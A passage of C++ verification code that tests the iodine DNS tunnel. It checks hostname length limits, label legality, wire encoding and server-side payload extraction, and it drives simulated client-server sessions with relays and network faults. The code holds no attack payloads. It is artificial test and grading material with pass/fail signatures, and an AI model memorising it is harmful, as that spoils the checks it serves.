	}
	if (d.find('.') == std::string::npos && d.size() >= 3) d[d.size() / 2] = '.';
	return d;
}

static std::string check_one(int L, const std::string &domain, int codec, int hdr, const Bytes &payload, bool wild_server,
			     std::string *sig, bool *truncating, bool *mult57)
{
	char buf[4096];
	std::string header = hdr == 1 ? std::string("p") : std::string("3ab2z");
	memcpy(buf, header.data(), hdr);
	int k = v_build_hostname(codec, buf + hdr, sizeof(buf) - hdr, (const char *)payload.data(), payload.size(), domain.c_str(), L);
	std::string N(buf);
	char ctx[256];
	snprintf(ctx, sizeof ctx, " [L=%d domain(%zu)=%.40s codec=%s hdr=%d payload=%zuB k=%d namelen=%zu]", L, domain.size(), domain.c_str(), CN[codec], hdr, payload.size(), k, N.size());
	if (k < 1 || (size_t)k > payload.size()) { *sig = "C08:count"; return "builder reports " + std::to_string(k) + " consumed bytes" + ctx; }
	if (N.size() > (size_t)L) { *sig = "C08:limit"; return "name longer than the configured limit" + std::string(ctx); }
	// legality, label-wise
	std::vector<refdns::Bytes> labels = refdns::split_labels(N);
	size_t wire = 1;
	for (auto &l : labels) {
		if (l.empty()) { *sig = "C08:empty-label"; return "empty label (double or leading/trailing dot)" + std::string(ctx) + " name=" + N.substr(0, 300); }
		if (l.size() > 63) { *sig = "C08:label>63"; return "label of " + std::to_string(l.size()) + " bytes" + ctx; }
		wire += 1 + l.size();
	}
	if (wire > 255) { *sig = "C08:wire>255"; return "name needs " + std::to_string(wire) + " octets on the wire" + ctx; }
	if (N.size() < domain.size() + 1 || N.compare(N.size() - domain.size(), domain.size(), domain) != 0 || N[N.size() - domain.size() - 1] != '.') {
		*sig = "C08:domain-suffix"; return "name does not end in .<domain> at a label boundary" + std::string(ctx);
	}
	// through the real message builder and an independent strict parser
	char pkt[4096];
	int plen = v_dns_encode_query(pkt, sizeof pkt, 0x1234, 10, N.c_str(), 1);
	if (plen < 12) { *sig = "C08:dns-encode"; return "dns_encode refused the name" + std::string(ctx); }
	refdns::Msg m;
	std::string pe = refdns::parse(refdns::Bytes(pkt, pkt + plen), m);
	if (!pe.empty()) { *sig = "C08:dns-illformed"; return "query message not well-formed: " + pe + ctx; }
	if (m.q.size() != 1 || m.q[0].name.dotted() != N) { *sig = "C08:dns-name"; return "name on the wire differs from the built name" + std::string(ctx); }
	// server side: the real decoder + matcher + extractor
	static char big[65536];
	memcpy(big, pkt, plen);
	memset(big + plen, 0xA5, 512);
	char qname[256]; unsigned short ty, id, rc;
	int dl = v_dns_decode(nullptr, 0, 0, big, plen, qname, &ty, &id, &rc);
	if (dl <= 0 || N != qname) { *sig = "C08:dns-decode"; return "server-side decode of the query gives a different name" + std::string(ctx); }
	std::string sdom = domain;
	if (wild_server) { size_t p = domain.find('.'); sdom = "*" + domain.substr(p); if (!ref::valid_topdomain(sdom, true)) sdom = domain; }
	int d = v_query_datalen(qname, sdom.c_str());
	int dref = ref::match_datalen(N, sdom);
	if (d < 0 || d != dref || (size_t)d != N.size() - domain.size()) { *sig = "C08:datalen"; return "query_datalen=" + std::to_string(d) + " (reference " + std::to_string(dref) + ", expected " + std::to_string(N.size() - domain.size()) + ") for server domain " + sdom + ctx; }
	char in[512];
	memcpy(in, qname, std::min<size_t>(d, sizeof in));
	static char unpacked[65536];
	int got = v_unpack_data(codec, unpacked, sizeof unpacked, in + hdr, d - hdr);
	if (got != k || memcmp(unpacked, payload.data(), k) != 0) {
		*sig = "C08:extract"; return "server extraction yields " + std::to_string(got) + " bytes, builder reported " + std::to_string(k) + (got == k ? " (content differs)" : "") + ctx;
	}
	Bytes rd = ref::codec_decode(codec, N.substr(hdr, d - hdr), true);
	if (rd.size() != (size_t)k || memcmp(rd.data(), payload.data(), k) != 0) { *sig = "C08:refcodec"; return "independent decoder of protocol 0x502 disagrees" + std::string(ctx); }
	if (truncating) *truncating = (size_t)k < payload.size();
	if (mult57) { size_t enc = ref::codec_enc_len(codec, k); *mult57 = enc % 57 == 0; }
	return "";
}

static Bytes content(size_t n, int cls, uint32_t salt)
{
	Bytes b(n);
	for (size_t i = 0; i < n; i++) b[i] = cls == 0 ? 0 : (cls == 1 ? 0xff : (cls == 2 ? (uint8_t)i : (uint8_t)((i * 2654435761u + salt) >> 13)));
	return b;
}

static CaseResult unit_case(Tape &t)
{
	CaseResult r;
	int L = t.range(100, 255);
	int maxd = std::min(128, L - 24);
	size_t dlen = t.chance(1, 4) ? (size_t)(t.chance(1, 2) ? 3 + t.below(3) : maxd - t.below(3)) : (size_t)t.range(3, maxd);
	std::string domain = gen_domain(dlen, (int)t.below(3), t.u32());
	if (!ref::valid_topdomain(domain, false) || domain.size() != dlen) { r.render = "generator produced an invalid domain (skipped)"; r.cls("gen-skip"); return r; }
	int codec = (int)t.below(4);
	int hdr = t.chance(1, 2) ? 5 : 1;
	size_t plen;
	switch (t.pick({3, 2, 2, 1})) { case 0: plen = (size_t)t.range(1, 20); break; case 1: plen = (size_t)t.range(1, 300); break; case 2: plen = (size_t)t.range(80, 260); break; default: plen = (size_t)t.range(1, 2048); break; }
	Bytes payload = t.bytes_of(plen);
	bool wild = t.chance(1, 3);
	std::string sig; bool trunc = false, m57 = false;
	std::string e = check_one(L, domain, codec, hdr, payload, wild, &sig, &trunc, &m57);
	r.render = "L=" + std::to_string(L) + " domain=" + domain + " codec=" + CN[codec] + " hdr=" + std::to_string(hdr) + " payload(" + std::to_string(plen) + ")=" + hexs(payload, 24) + (wild ? " wildcard-server" : "");
	if (!e.empty()) r.fail(sig, e);
	r.nontrivial = trunc || m57 || L == 100 || L == 255 || dlen == 3 || (int)dlen == maxd;
	r.cls(std::string("codec:") + CN[codec]);
	r.cls(trunc ? "truncating" : "fits");
	if (m57) r.cls("encoded-multiple-of-57");
	return r;
}

static int level = 1;

static bool exhaustive(Stats &st, std::string &msg)
{
	// every L x every domain length x codec (x header length), payload lengths at the block / capacity boundaries
	uint64_t n = 0, ntr = 0;
	std::string sig;
	for (int L = 100; L <= 255; L++) {
		if (L % enum_parts != enum_part) continue;
		int maxd = std::min(128, L - 24);
		int step = level >= 2 ? 1 : 1;
		for (int dlen = 3; dlen <= maxd; dlen += step) {
			std::string domain = gen_domain(dlen, (L + dlen) % 3, L * 131 + dlen);
			if (!ref::valid_topdomain(domain, false) || (int)domain.size() != dlen) continue;
			for (int codec = 0; codec < 4; codec++) {
				int hdr = ((L + dlen + codec) & 1) ? 5 : 1;
				// capacity in bytes for this configuration, measured with an ample payload
				Bytes big = content(2048, 3, L + dlen);
				bool tr, m57;
				std::string e = check_one(L, domain, codec, hdr, big, (L ^ dlen) & 1, &sig, &tr, &m57);
				if (!e.empty()) { msg = sig + ": " + e; return false; }
				char tmp[4096]; tmp[0] = 0;
				int cap = v_build_hostname(codec, tmp + hdr, sizeof(tmp) - hdr, (const char *)big.data(), big.size(), domain.c_str(), L);
				int raw = v_blk_raw(codec);
				int lens[] = {1, 2, raw - 1, raw, raw + 1, cap - 1, cap, cap + 1};
				int nl = level >= 2 ? 8 : 8;
				for (int q = 0; q < nl; q++) {
					if (lens[q] < 1) continue;
					int cls = (L + dlen + q) % 4;
					Bytes p = content(lens[q], cls, L * 7 + q);
					int h2 = level >= 2 ? 0 : -1;
					for (int hh = (h2 < 0 ? hdr : 1); hh <= (h2 < 0 ? hdr : 5); hh += 4) {
						std::string e2 = check_one(L, domain, codec, hh, p, (q & 1) != 0, &sig, &tr, &m57);
						if (!e2.empty()) { msg = sig + ": " + e2; return false; }
						uint64_t key[5] = {(uint64_t)L, (uint64_t)dlen, (uint64_t)codec, (uint64_t)lens[q], (uint64_t)hh};
						bool nt = tr || m57 || L == 100 || L == 255 || dlen == 3 || dlen == maxd || lens[q] >= cap - 1;
						st.add_enum(fnv(key, sizeof key), nt, "enum:grid");
						n++; if (tr) ntr++;
					}
				}
			}
		}
	}
	st.extra["enum_builder_calls"] = std::to_string(n);
	st.extra["enum_truncating"] = std::to_string(ntr);
	st.sample("enumerated: every L in 100..255 x every domain length 3..min(128,L-24) x 4 codecs x payload lengths {1,2,block-1,block,block+1,capacity-1,capacity,capacity+1} (+2048 to measure the capacity), header length 1 or 5, plain and wildcard server domain", true);
	return true;
}

// system case: the REAL client (all its builders: version, login, codec tests, fragment-size probe with autoprobing, set-fragsize,
// ping, data chunks) emits names through the real sendto(); the wire monitor checks every one against -M and the domain
static CaseResult system_case(Tape &t)
{
	CaseResult r;
	tun::Run R;
	tun::long_dom() = t.chance(1, 3);
	bool longd = tun::long_dom();
	tun::run_tunnel(t, tun::CLEAN, R);
	tun::long_dom() = false;
	r.render = "system: " + R.render.substr(0, 500) + scn::fmt(" | client queries %llu, names >= 200 chars %llu", (unsigned long long)R.wm.n_cli_dns, (unsigned long long)R.wm.n_long_q);
	if (R.v.failed("C08")) r.fail(R.v.first["C08"].sig, R.v.first["C08"].why + "\n" + r.render);
	// "the server's extraction of the data part of that name yields exactly that prefix": on a clean path every packet the client read
	// and sent must come out of the real server's reassembly (sizes include last fragments of exactly 1 and 2 bytes)
	if (r.ok && R.v.failed("C02") && R.v.first["C02"].sig == "C02:lost-upstream") r.fail("C08:system-extraction-fails", R.v.first["C02"].why + "\n" + r.render);
	r.nontrivial = R.up && R.cfg.maxlen != 0;
	r.cls("system"); if (R.cfg.maxlen) r.cls("system:-M-set"); if (longd) r.cls("system:-M-within-24..32-of-an-84-character-domain"); if (R.cfg.frag < 0) r.cls("system:fragsize-autoprobe"); if (R.n_boundary) r.cls("system:last-fragment-of-1-2-F-1-or-F-bytes");
	return r;
}

// client case: the REAL client against a scripted, otherwise honest server that REFUSES the upstream codec switch (an older server
// without Base128 / Base64u answers BADCODEC; BADIP and BADLEN are the other refusals the client knows) or accepts it.  Whatever
// the client then puts into its data-chunk names has to be extractable by the server with the codec in force for the session:
// every packet the client read from its tun device and sent completely must come out of the server's reassembly unchanged.
static CaseResult client_case(Tape &t)
{
	CaseResult r;
	scn::Config c;
	static const int QT[] = {1, 3, 2, 4, 6};
	c.qtype = QT[t.pick({4, 3, 1, 1, 1})];
	c.lazy = t.chance(1, 2) ? 1 : 0;
	c.frag = t.range(100, 300);
	c.nclients = 1;
	if (t.chance(1, 2)) c.maxlen = t.range(100, 255);
	c.cli_seed = t.u32() | 1;
	int refusal = (int)t.pick({2, 3, 1, 1});   // 0 accept, 1 BADCODEC, 2 BADIP, 3 BADLEN
	scn::Session s(c);
	mon::TunMonitor tm; tm.attach(sim::W);
	cli::ScriptServer srv; srv.domain = c.domain; srv.password = Bytes(c.password.begin(), c.password.end());
	srv.seed = t.u32(); srv.userid = (int)t.below(16);
	int n_refused = 0, asked_codec = -1;
	srv.policy = [&](cli::ScriptServer &S, const refproto::Query &q, const sim::Datagram &dg, int step) -> bool {
		if (step != cli::S_S) return false;
		std::string d = q.data;
		asked_codec = d.size() >= 3 ? ref::b32_value((unsigned char)d[2]) : -1;
		if (!refusal) return false;
		static const char *R[] = {"", "BADCODEC", "BADIP", "BADLEN"};
		S.answer(dg, q, Bytes(R[refusal], R[refusal] + strlen(R[refusal])), S.downenc);
		n_refused++;
		return true;
	};
	srv.attach();
	s.start_client(0);
	uint64_t end = sim::W.now + 150000000ull;
	while (sim::W.now < end && !sim::W.livelock && s.cli[0]->state != sim::ST_EXITED && !s.client_up(0)) sim::W.run_for(200000);
	r.render = "client vs scripted server: " + c.describe() + scn::fmt(" | codec switch asked=%d answer=%s", asked_codec, refusal == 0 ? "accepted" : (refusal == 1 ? "BADCODEC" : (refusal == 2 ? "BADIP" : "BADLEN")));
	r.cls("client-vs-scripted-server");
	if (sim::W.livelock) r.fail("C08:livelock", "simulation did not make progress");
	if (!s.client_up(0)) { r.cls("handshake-failed"); return r; }
	int noff = t.range(2, 6);
	std::vector<Bytes> offered;
	for (int i = 0; i < noff; i++) {
		Bytes pkt = scn::gen_packet(t, Bytes{10, 0, 0, 1}, Bytes{10, 0, 0, 2}, (uint16_t)(700 + i), 600);
		offered.push_back(pkt); sim::W.offer_tun(s.cli[0], pkt);
		sim::W.run_for(1500000);
	}
	sim::W.run_for(6000000);
	size_t n_read = tm.reads_of(s.cli[0]->idx).size();
	r.render += scn::fmt(" | offered %d, read by the client %zu, reassembled by the server %zu, switch requests refused %d", noff, n_read, srv.up_received.size(), n_refused);
	for (auto &p : srv.up_received) if (std::find(offered.begin(), offered.end(), p) == offered.end())
		r.fail("C08:extraction-differs", "the server's extraction of the client's data chunks (codec in force for the session) yields a packet the client never read from its tun device\n" + r.render);
	// a clean path: everything the client read must arrive (the last one may still be in flight only if the run ended early, which it did not)
	if (r.ok && n_read >= 1 && srv.up_received.size() + 1 < n_read)
		r.fail("C08:extraction-fails", scn::fmt("the client read %zu packets from its tun device and sent them, but the server could reassemble only %zu from the data-chunk names with the codec in force", n_read, srv.up_received.size()) + "\n" + r.render);
	r.nontrivial = n_read >= 1 && asked_codec >= 0;
	if (n_refused) r.cls(refusal == 1 ? "codec-switch-refused:BADCODEC" : (refusal == 2 ? "codec-switch-refused:BADIP" : "codec-switch-refused:BADLEN"));
	else if (asked_codec >= 0) r.cls("codec-switch-accepted");
	return r;
}

static CaseResult run_case(Tape &t) { int k = (int)t.pick({80, 2, 1}); return k == 0 ? unit_case(t) : (k == 1 ? system_case(t) : client_case(t)); }

int main(int argc, char **argv)
{
	for (int i = 1; i + 1 < argc; i++) if (!strcmp(argv[i], "--level")) level = atoi(argv[i + 1]);
	PropDef d; d.id = "C08"; d.run = run_case; d.exhaustive = exhaustive; d.tape_scale = 1.5;
	return harness_main(argc, argv, d);
}
