// tunnel_common.h -- generated end-to-end sessions: real iodined + 1..3 real iodine clients over
// simnet with a fault-injecting network.  Shared by C01, C02 and by the wire monitors of
// C08/C10/C14/C15 (each property binary picks the verdict it owns).
#pragma once
#include "sim/harness.h"
#include "sim/scenario.h"
#include "sim/monitors.h"
#include "relay.h"
#include <algorithm>
#include <memory>

namespace tun {
using namespace hz;
using scn::fmt;

enum Mode { FAULTY = 1, CLEAN = 2, RECOVER = 3, REDELIVER = 4 /* clean path through a relay that re-delivers queries (C16) */ };

struct Offer { uint64_t at; int side; /* -1 server, k client */ int dst; /* -1 server, k client slot, 9 nobody */ Bytes pkt; bool judged; uint64_t accepted_at = 0; bool accepted = false; };

struct Run {
	scn::Config cfg;
	bool up = false;
	mon::Verdicts v;
	mon::TunMonitor tm;
	mon::WireMonitor wm;
	scn::FaultNet fn;
	std::unique_ptr<rly::Relay> relay;   // optional relay between clients and server (ids rewritten; letter case randomised from a chosen moment)
	int relay_case = 0;                   // 0 never, 1 from the start (negotiation sees it), 2 only after the handshake (adversarial)
	std::vector<Offer> offers;
	std::string render;
	int down_frag = 0;          // negotiated downstream fragment size (from the client's N request), 0 unknown
	int multi_frag_delivered = 0, faults_on_transfers = 0, delivered = 0, c2c = 0, seq_wrap = 0;
	bool idle_gap = false;
	std::string client_log, server_log;
	bool exited = false;
	bool busy = false, stream_stop = false; int n_stream = 0;
	int up_codec = 0, up_frag = 0;   // upstream codec and exact size of a non-final upstream fragment, read off the wire
	int n_crafted = 0, n_boundary = 0;
	std::vector<std::string> classes;
};

static const char *DOMS[] = {"t.example.com", "a.io", "tunnel.some-quite-long-name.of-a.delegated.zone.example.org", "x1.Y2.z3.net"};

inline bool &tight_m() { static bool b = false; return b; }
// C08 only: a tunnel domain of 84 characters with -M set to domain + 24..32, the corner in which the fixed-size handshake messages
// (login: 33 characters in front of the domain) are the longest names the limit still admits
inline bool &long_dom() { static bool b = false; return b; }

inline scn::Config gen_config(Tape &t, Mode mode)
{
	scn::Config c;
	static const int QT[] = {1, 3, 2, 4, 5, 6, 7, 0};
	c.qtype = QT[t.pick({4, 3, 1, 2, 2, 2, 2, 2})];
	c.downenc = (int)t.pick({5, 2, 2, 2, 2, 2});
	c.lazy = t.chance(1, 3) ? 0 : 1;
	c.raw_mode = t.chance(1, 10);
	c.nclients = mode == FAULTY ? 1 + (int)t.pick({6, 2, 1}) : 1;
	c.domain = DOMS[t.pick({4, 2, 2, 1})];
	int minlen = (int)c.domain.size() + 24;
	if (t.chance(1, 3)) c.maxlen = std::max(100, std::min(255, t.chance(1, 2) ? t.range(100, 255) : std::max(minlen, 100) + (int)t.below(8)));
	if (c.maxlen && c.maxlen < minlen) c.maxlen = minlen;
	// C10 only: every -M value the option parser accepts (10..255), also those that leave less than the 24 characters in front
	// of the domain which C08 presupposes -- whatever the client then emits must still be a well-formed DNS message
	if (tight_m()) {
		static const char *LONGD[] = {"tunnel.some-quite-long-name.of-a.delegated.zone.example.org", "a-rather-long-label-of-some-sixty-characters-1234567890-123456.another-label-of-some-length.example-zone.net", "t.example.com"};
		c.domain = LONGD[t.below(3)]; c.srv_domain.clear();
		c.maxlen = std::max(10, std::min(255, (int)c.domain.size() + t.range(-8, 30)));
	}
	if (long_dom()) {
		c.domain = "tunnel.some-quite-long-name.of-a.delegated.zone.with-a-few-more-labels.example.org";
		if (c.domain.size() < 76) abort();
		c.maxlen = std::min(255, (int)c.domain.size() + 24 + (int)t.below(9));
	}
	if (t.chance(1, 5)) { size_t p = c.domain.find('.'); c.srv_domain = "*" + c.domain.substr(p); if (!ref::valid_topdomain(c.srv_domain, true)) c.srv_domain.clear(); }
	// fragment size: autoprobe or forced
	if (t.chance(2, 5)) {
		int f;
		switch (t.pick({3, 2, 2, 1})) { case 0: f = t.range(20, 200); break; case 1: f = t.range(2, 40); break; case 2: f = t.range(200, 1200); break; default: f = t.range(1100, 1300); break; }
		if (mode != FAULTY) {
			// progress is only promised for sizes the chosen answer format can carry
			int cap = (c.qtype == 6 || c.qtype == 7) ? 100 : ((c.qtype == 4 || c.qtype == 5) ? 1000 : 1200);
			if (c.qtype == 0) cap = 100;
			f = std::max(10, std::min(f, cap));
		}
		c.frag = f;
	}
	c.netmask = t.chance(1, 4) ? t.range(24, 29) : 27;
	c.srv_seed = t.u32() | 1; c.cli_seed = t.u32() | 1;
	if (t.chance(1, 6)) c.client_v6 = true;
	return c;
}

// conservative number of payload bytes one upstream query carries (Base32 worst case)
inline int up_capacity(const scn::Config &c)
{
	int L = c.maxlen ? c.maxlen : 255;
	int space = L - (int)c.domain.size() - 8;
	space -= space / 57;
	return std::max(1, space * 5 / 8 - 1);
}

inline void run_tunnel(Tape &t, Mode mode, Run &R)
{
	R.cfg = gen_config(t, mode);
	scn::Config &c = R.cfg;
	// a relay in the path (C01: DNS-id rewriting and case-randomising relays; C02: id rewriting only, the path stays intact)
	// drawn early: a tunnel case uses up most of its tape for the offers
	bool busy_draw = false; uint32_t busy_period_ms = 200;
	int busy_side = 0;   // 0 client's tun, 1 server's tun, 2 both
	if (mode == RECOVER) { busy_draw = t.chance(1, 3); busy_period_ms = (uint32_t)t.range(120, 500); busy_side = (int)t.pick({3, 1, 1}); }
	// CLEAN, one case in four: traffic in ONE direction only, a packet every 2..15 s for up to several minutes (a one-way stream:
	// telemetry, syslog, a media stream without feedback); keep-alives must not depend on the other direction being busy or idle
	int oneway = 0;
	if (mode == CLEAN && t.chance(1, 4)) oneway = 1 + (int)t.below(2);
	bool bulk_draw = oneway == 1 && t.chance(1, 2); int bulk_secs = bulk_draw ? t.range(62, 75) : 0;
	if (mode == REDELIVER) { c.raw_mode = false; c.client_v6 = false; }
	bool use_relay = !c.raw_mode && !c.client_v6 && (mode == REDELIVER || t.chance(1, mode == FAULTY ? 3 : 6));
	if (use_relay) c.nameserver = sim::Addr::v4(192, 0, 2, 53, 53);
	// The relay passes answers above 512 bytes only to queries that carried an EDNS0 OPT record.  With PRIVATE queries the client
	// never uses EDNS0 (its EDNS0 test asks for a Base32 answer, which the server refuses for PRIVATE), so a FORCED fragment size
	// must leave room for a full-length question in a 512-byte answer: 12 + (257+4) + 12 + 2 + F <= 512.  (Autoprobing finds
	// this by itself; a larger forced size is a misconfiguration of the session, not a defect, and only loss-judging modes care.)
	if (use_relay && mode != FAULTY && c.qtype == 2 && c.frag > 220) c.frag = 220;
	scn::Session s(c);
	R.tm.attach(sim::W);
	if (use_relay) {
		R.relay.reset(new rly::Relay());
		rly::Profile P; for (int k = 0; k < 7; k++) { static const int ORDER[] = {10, 65399, 16, 33, 15, 5, 1}; P.types.push_back(ORDER[k]); }
		P.rewrite_ids = true;
		R.relay_case = mode == FAULTY ? (int)t.pick({2, 2, 3}) : 0;
		if (R.relay_case == 1) { P.q.kase = 3; if (t.chance(1, 2)) P.a.kase = 3; }
		if (mode == REDELIVER) {
			// half of the relays randomise letter case from the start (the client then settles on Base32 and a repeat may differ in case)
			if (t.chance(1, 2)) { P.q.kase = 3; R.relay_case = 1; }
			R.relay->redeliver = true; R.relay->t = &t; R.relay->p_red = (uint32_t)t.range(100, 600);
			// second upstream address of the relay: another port of the same host while the server checks source addresses
			// (it compares the IP address only), another host with -c
			R.relay->back2 = c.check_ip ? sim::Addr::v4(192, 0, 2, 53, 3054) : sim::Addr::v4(192, 0, 2, 54, 3054);
		}
		R.relay->p = P; R.relay->rnd = t.u32() | 1;
		R.relay->front = c.nameserver; R.relay->back = sim::Addr::v4(192, 0, 2, 53, 3053); R.relay->server = scn::SRV4;
		R.relay->attach();
	}
	s.start_server();
	R.wm.v = &R.v; R.wm.domain = c.domain; R.wm.srv_idx = s.srv->idx; R.wm.client_maxlen = c.maxlen ? c.maxlen : 255;
	R.fn.tape = &t; R.fn.install();
	for (int k = 0; k < c.nclients; k++) { s.start_client(k); R.wm.client_idx.insert(s.cli[k]->idx); }
	R.wm.attach(sim::W);
	// learn the negotiated downstream fragment size from the client's set-fragsize request
	auto prev = sim::W.on_send;
	sim::W.on_send = [&R, prev, &c](const sim::Datagram &dg) {
		if (prev) prev(dg);
		if (dg.from_inst >= 1) {
			refproto::Query q;
			if (refproto::decode_query(dg.data, c.domain, q) && (q.cmd == 'n' || q.cmd == 'N')) {
				Bytes b = ref::codec_decode(0, q.rest, true);
				if (b.size() >= 3) R.down_frag = (b[1] << 8) | b[2];
			}
			refproto::QAck qa;
			if (q.ok && refproto::query_ack(q, qa) && qa.is_data && !qa.last && q.rest.size() > 4) {
				Bytes chunk = ref::codec_decode(R.up_codec, q.rest.substr(4), true);
				if ((int)chunk.size() > R.up_frag) R.up_frag = (int)chunk.size();
			}
		} else if (dg.from_inst == 0) {
			refproto::Answer a;
			if (refproto::decode_answer(dg.data, a) && a.ok && !a.qname.empty() && tolower((unsigned char)a.qname[0]) == 's') {
				std::string pl(a.payload.begin(), a.payload.end());
				if (pl == "Base32") R.up_codec = 0; else if (pl == "Base64") R.up_codec = 1; else if (pl == "Base64u") R.up_codec = 2; else if (pl == "Base128") R.up_codec = 3;
			}
		}
	};
	if (getenv("VERIF_TRACE")) {
		auto prev2 = sim::W.on_send;
		sim::W.on_send = [prev2, &c](const sim::Datagram &dg) {
			if (prev2) prev2(dg);
			refproto::Query q; refproto::Answer a;
			if (dg.data.size() >= 3 && dg.data[0] == 0x10 && dg.data[1] == 0xd1) fprintf(stderr, "%10.6f inst%d RAW %zuB cmd=%02x\n", sim::W.now / 1e6, dg.from_inst, dg.data.size(), dg.data[3]);
			else if (refproto::decode_query(dg.data, c.domain, q)) fprintf(stderr, "%10.6f inst%d Q id=%5u %.30s%s\n", sim::W.now / 1e6, dg.from_inst, q.id, q.data.c_str(), q.data.size() > 30 ? "..." : "");
			else if (refproto::decode_answer(dg.data, a)) { refproto::DownHdr h; bool hh = refproto::down_header(a.payload, h);
				fprintf(stderr, "%10.6f inst%d A id=%5u %.12s len=%zu %s", sim::W.now / 1e6, dg.from_inst, a.id, a.qname.c_str(), a.payload.size(), "");
				if (hh) fprintf(stderr, "[upack %d/%d dn %d/%d last=%d]", h.up_seq, h.up_frag, h.dn_seq, h.dn_frag, h.last);
				fprintf(stderr, " %s\n", hz::hexs(a.payload, 12).c_str()); }
			else fprintf(stderr, "%10.6f inst%d ?? %zuB (%s)\n", sim::W.now / 1e6, dg.from_inst, dg.data.size(), a.err.c_str());
		};
		auto pw = sim::W.on_tun_write; sim::W.on_tun_write = [pw](sim::Instance *i, const Bytes &b) { if (pw) pw(i, b); fprintf(stderr, "%10.6f inst%d TUNWRITE %zuB\n", sim::W.now / 1e6, i->idx, b.size()); };
		auto pr = sim::W.on_tun_read; sim::W.on_tun_read = [pr](sim::Instance *i, const Bytes &b) { if (pr) pr(i, b); fprintf(stderr, "%10.6f inst%d TUNREAD %zuB\n", sim::W.now / 1e6, i->idx, b.size()); };
	}
	R.up = s.wait_all(150);
	R.render = c.describe();
	if (!R.up) {
		R.client_log = s.cli[0]->log;
		R.classes.push_back("handshake-failed");
		for (int k = 0; k < c.nclients; k++) if (s.cli[k]->state == sim::ST_EXITED) R.exited = true;
		return;
	}
	if (R.relay && R.relay_case == 2) { R.relay->p.q.kase = 3; if (t.chance(1, 2)) R.relay->p.a.kase = 3; }   // the relay starts randomising case after negotiation: data may be destroyed, never fabricated
	if (R.relay) R.classes.push_back(R.relay_case == 0 ? "relay:id-rewriting" : (R.relay_case == 1 ? "relay:case-randomising" : "relay:case-randomising-after-handshake"));
	R.classes.push_back(std::string("type:") + refproto::qtype_name(c.qtype));
	R.classes.push_back(c.lazy ? "lazy" : "immediate");
	if (c.raw_mode) R.classes.push_back("rawmode");
	if (c.nclients > 1) R.classes.push_back("multi-client");

	// ---- offers
	Bytes sip = s.server_tun_ip();
	// slots are assigned in the order the clients logged in; read them off the login answers is overkill:
	// client k was started k-th and the handshakes run concurrently, so map by the address each client configured.
	std::vector<Bytes> cip(3);
	for (int k = 0; k < c.nclients; k++) {
		cip[k] = sip;
		for (auto &cmd : s.cli[k]->system_calls) {
			unsigned a, b, cc, d;
			size_t p = cmd.find("ifconfig ");
			if (p != std::string::npos && sscanf(cmd.c_str() + p, "ifconfig %*s %u.%u.%u.%u", &a, &b, &cc, &d) == 4) { cip[k] = Bytes{(uint8_t)a, (uint8_t)b, (uint8_t)cc, (uint8_t)d}; break; }
		}
	}
	uint64_t t0 = sim::W.now + 2000000;   // let the first pings settle
	int upcap = up_capacity(c);
	int dncap = R.down_frag > 0 ? R.down_frag : (c.frag > 0 ? c.frag : 100);
	int noffers = mode == RECOVER ? t.range(0, 25) : t.range(1, mode == CLEAN || mode == REDELIVER ? 40 : 30);
	uint64_t at = t0;
	uint16_t ident = 1;
	if (oneway) { noffers = std::max(noffers, 8); R.classes.push_back(oneway == 1 ? "one-way-upstream-stream" : "one-way-downstream-stream"); }
	uint64_t fault_len = mode == FAULTY ? (uint64_t)t.range(1, 40) * 1000000 : (mode == RECOVER ? (uint64_t)t.range(1, 40) * 1000000 : 0);
	for (int i = 0; i < noffers; i++) {
		Offer o;
		uint64_t gap;
		switch (t.pick({5, 3, 2, 1})) { case 0: gap = t.below(20000); break; case 1: gap = t.below(600000); break; case 2: gap = 1000000 + t.below(4000000); break; default: gap = 5000000 + t.below(25000000); break; }
		if (oneway) gap = 2000000 + t.below(13000000);
		if (mode != CLEAN && mode != REDELIVER && at + gap > t0 + fault_len) gap = t.below(50000);
		if (gap > 4500000) R.idle_gap = true;
		at += gap;
		o.at = at;
		int side = (int)t.below(1 + c.nclients) - 1;
		if (oneway) side = oneway == 1 ? 0 : -1;
		o.side = side;
		if (side < 0) o.dst = (oneway || (int)t.pick({8, 1, 1}) == 0) ? (int)t.below(c.nclients) : (t.chance(1, 2) ? 9 : -1);
		else { o.dst = -1; if (c.nclients > 1 && t.chance(1, 3)) { o.dst = (int)t.below(c.nclients); if (o.dst == side) o.dst = -1; } }
		Bytes dst = o.dst < 0 ? sip : (o.dst == 9 ? Bytes{sip[0], sip[1], sip[2], (uint8_t)(sip[3] ^ 0x80)} : cip[o.dst]);
		Bytes src = side < 0 ? sip : cip[side];
		// the tunnel MTU is at most 1500 (iodined refuses more) unless the administrator raised the interface MTU by hand; the
		// larger sizes exercise every buffer on the way with packets the tun device can still deliver in that case
		static const size_t MB[] = {1400, 3800, 6000}; size_t maxbody = MB[t.pick({14, 2, 1})];
		if (mode == CLEAN || mode == REDELIVER) {
			// (a) judges exactly-once delivery; an oversize packet is self-inflicted trouble (the sender retransmits
			// an unacknowledgeable fragment for seconds and by design drops tun packets meanwhile), so clean-path
			// runs only offer packets that fit the 16-fragment limit with margin
			int cap = c.raw_mode ? 3000 : (side < 0 ? dncap : (o.dst < 0 ? upcap : std::min(upcap, dncap)));
			maxbody = (size_t)std::max(0, std::min(1400, 12 * cap - 40));
		}
		o.pkt = scn::gen_packet(t, dst, src, ident++, maxbody);
		if (c.raw_mode && o.pkt.size() % 3 == 0 && o.pkt.size() >= 24) {
			// raw mode (no fragmenting, packets travel whole): one packet in three gets an IPv4 total length at a byte-pattern boundary
			// (0x0100, 0x0200, 0x0201, ... -- values that read differently in the other byte order); derived from the size already drawn,
			// so that the choice tapes of all other cases keep their meaning
			static const size_t BL[] = {256, 512, 513, 768, 770, 1024, 1027, 1280, 1284, 255, 257, 511};
			size_t tot = BL[(o.pkt.size() / 3) % 12];
			size_t old = o.pkt.size();
			o.pkt.resize(4 + tot);
			for (size_t k = old; k < o.pkt.size(); k++) o.pkt[k] = (uint8_t)(k * 7 + old);
			o.pkt[6] = (uint8_t)(tot >> 8); o.pkt[7] = (uint8_t)tot;
		}
		size_t z = refproto::zcompress(o.pkt).size();
		bool fits_up = (int)z <= 12 * upcap, fits_dn = (int)z <= 12 * dncap;
		if (c.raw_mode) { fits_up = fits_dn = o.pkt.size() <= 4000; }
		o.judged = side < 0 ? (o.dst >= 0 && o.dst < 9 && fits_dn) : (o.dst < 0 ? fits_up : (fits_up && fits_dn));
		R.offers.push_back(o);
	}
	// network behaviour
	if (mode == FAULTY || mode == RECOVER) {
		R.fn.active = true;
		switch (t.pick({3, 2, 2, 2, 1})) {
